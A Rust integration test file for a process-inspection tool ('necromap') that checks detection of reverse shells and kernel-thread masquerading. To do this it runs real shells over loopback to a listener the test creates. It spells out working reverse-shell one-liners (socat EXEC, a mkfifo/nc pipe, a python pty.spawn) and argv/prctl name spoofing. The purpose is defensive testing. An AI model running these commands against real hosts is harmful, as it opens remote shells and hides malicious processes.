//! Reverse shells by any plumbing, and processes dressed as kernel threads,
//! with real tools on 127.0.0.1: socat with a pty and with a socketpair
//! (upper-case `EXEC:`), a named pipe and nc run from a script file, a
//! python pty. The attacker's side is this test's own listener, which
//! accepts and holds the connection. Every child is killed and reaped.

mod common;

use std::net::{TcpListener, TcpStream};
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Reaped, Watcher, finding_on, require, spawn_group, trace_text};
use necromap::model::{Finding, Severity};

/// Accept one connection within 10 s (the child may fail to start).
fn accept_within(listener: &TcpListener) -> TcpStream {
    listener.set_nonblocking(true).expect("nonblocking");
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        match listener.accept() {
            Ok((s, _)) => return s,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < deadline => std::thread::sleep(Duration::from_millis(50)),
            Err(e) => panic!("the reverse shell never connected: {e}"),
        }
    }
}

/// Refresh until `rule` fires on the process named `name` whose command
/// line contains `marker`.
fn expect_finding(rule: &str, name: &str, marker: &str) -> Finding {
    let mut w = Watcher::new();
    w.until(Duration::from_millis(200), Duration::from_secs(15), |s| finding_on(s, rule, name, marker))
        .unwrap_or_else(|| panic!("no {rule} finding on {name} `{marker}`"))
}

fn socat(args: &[String]) -> Reaped {
    require("socat");
    let mut c = Command::new("socat");
    c.args(args);
    spawn_group(c)
}

#[test]
fn socat_with_an_upper_case_exec_and_a_pty_is_critical() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let _child = socat(&[format!("TCP:127.0.0.1:{port}"), "EXEC:'bash -li',pty,stderr,setsid,sigint,sane".into()]);
    let _peer = accept_within(&listener);
    let f = expect_finding("reverse_shell_plumbing", "socat", &format!("TCP:127.0.0.1:{port}"));
    assert_eq!(f.severity, Severity::Critical);
    let trace = trace_text(&f);
    assert!(trace.contains("bash (") && trace.contains("→ /dev/pts/") && trace.contains("(master)"), "{trace}");
    // The command line says it too, whatever the case of EXEC.
    let f = expect_finding("reverse_shell_cmdline", "socat", &format!("TCP:127.0.0.1:{port}"));
    assert!(trace_text(&f).contains("EXEC:"), "{}", trace_text(&f));
}

#[test]
fn socat_handing_bash_a_socketpair_is_critical() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let _child = socat(&[format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/bash".into()]);
    let _peer = accept_within(&listener);
    let f = expect_finding("reverse_shell_plumbing", "socat", &format!("TCP:127.0.0.1:{port}"));
    assert_eq!(f.severity, Severity::Critical);
    let trace = trace_text(&f);
    assert!(trace.contains("bash (") && trace.contains("socketpair:["), "{trace}");
}

#[test]
fn a_named_pipe_and_nc_run_from_a_script_file_are_critical() {
    require("nc");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let dir = tempfile::tempdir().expect("tmp");
    let fifo = dir.path().join("f");
    let script = dir.path().join("update.sh");
    // No process carries the one-liner on its command line: sh runs a file.
    std::fs::write(&script, format!("rm -f {f}; mkfifo {f}; cat {f} | sh -i 2>&1 | nc 127.0.0.1 {port} > {f}\n", f = fifo.display())).expect("script");
    let mut c = Command::new("sh");
    c.arg(&script);
    let _child = spawn_group(c);
    let _peer = accept_within(&listener);
    let f = expect_finding("reverse_shell_plumbing", "nc", &format!("127.0.0.1 {port}"));
    assert_eq!(f.severity, Severity::Critical);
    let trace = trace_text(&f);
    // Output: sh → pipe → nc. Input: sh ← pipe ← cat ← the named pipe ← nc.
    assert!(trace.contains("sh (") && trace.contains("pipe:[") && trace.contains(&format!("fifo {}", fifo.display())), "{trace}");
    assert!(trace.contains("cat ("), "{trace}");
}

#[test]
fn a_python_pty_reverse_shell_is_critical_twice() {
    require("python3");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let code = format!("import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')");
    let mut c = Command::new("python3");
    c.arg("-c").arg(&code);
    let _child = spawn_group(c);
    let _peer = accept_within(&listener);
    // python's own stdio is the socket, and the sh it spawned sits on a pty
    // whose master python holds.
    let marker = format!("'127.0.0.1',{port}");
    let stdio = expect_finding("reverse_shell_stdio", "python3", &marker);
    assert_eq!(stdio.severity, Severity::Critical);
    let plumbing = expect_finding("reverse_shell_plumbing", "python3", &marker);
    assert!(trace_text(&plumbing).contains("sh (") && trace_text(&plumbing).contains("/dev/pts/"), "{}", trace_text(&plumbing));
}

#[test]
fn a_process_calling_itself_a_kernel_thread_is_high() {
    require("ncat");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    // argv[0] like a kernel worker (`exec -a`), the way ps would show it.
    let by_argv = common::bash(&format!("exec -a '[kworker/0:1]' ncat 127.0.0.1 {port} < /dev/null"), &[]);
    let _peer1 = accept_within(&listener);
    let f = expect_finding("kernel_thread_masquerade", "ncat", "[kworker/0:1]");
    assert_eq!(f.severity, Severity::High);
    assert!(trace_text(&f).contains("[kworker/0:1]"), "{}", trace_text(&f));
    drop(by_argv);
    // The short name (comm) set with prctl, argv left alone.
    require("python3");
    let code =
        format!("import ctypes,socket,time;ctypes.CDLL(None).prctl(15,b'[kthreadd/2]',0,0,0);s=socket.create_connection(('127.0.0.1',{port}));time.sleep(30)");
    let mut c = Command::new("python3");
    c.arg("-c").arg(&code);
    let _by_comm = spawn_group(c);
    let _peer2 = accept_within(&listener);
    let f = expect_finding("kernel_thread_masquerade", "[kthreadd/2]", "prctl");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn the_summary_csv_and_json_of_a_live_host_carry_the_finding() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let child = socat(&[format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh".into()]);
    let _peer = accept_within(&listener);
    let pid = child.pid().0;
    // Wait until the shell is there (socat forks it after connecting).
    expect_finding("reverse_shell_plumbing", "socat", &format!("TCP:127.0.0.1:{port}"));
    let run = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_necromap")).args(args).output().expect("run necromap");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).expect("utf8")
    };
    let summary = run(&["summary"]);
    let line = format!("CRITICAL  Reverse shell: a shell's input and output run through this process's connection · pid {pid} socat");
    assert!(summary.contains(&line), "{summary}");
    let csv = run(&["snapshot", "--format", "csv", "--table", "findings"]);
    assert!(csv.lines().any(|l| l.starts_with(&format!("reverse_shell_plumbing@pid:{pid},reverse_shell_plumbing,")) && l.contains(",critical,")), "{csv}");
    let json: serde_json::Value = serde_json::from_str(&run(&["snapshot", "--format", "json"])).expect("json");
    let row = json["sockets"].as_array().expect("sockets").iter().find(|s| s["pid"] == pid && s["remote_port"] == port).expect("socat's socket").clone();
    assert_eq!(row["severity"], "critical", "{row}");
    assert!(row["rule_ids"].as_array().expect("rule ids").iter().any(|r| r == "reverse_shell_plumbing"), "{row}");
    let process = json["processes"].as_array().expect("processes").iter().find(|p| p["pid"] == pid).expect("socat").clone();
    assert_eq!(process["severity"], "critical");
    assert!(process["shell_links"][0]["pid"].as_u64().is_some(), "{process}");
}
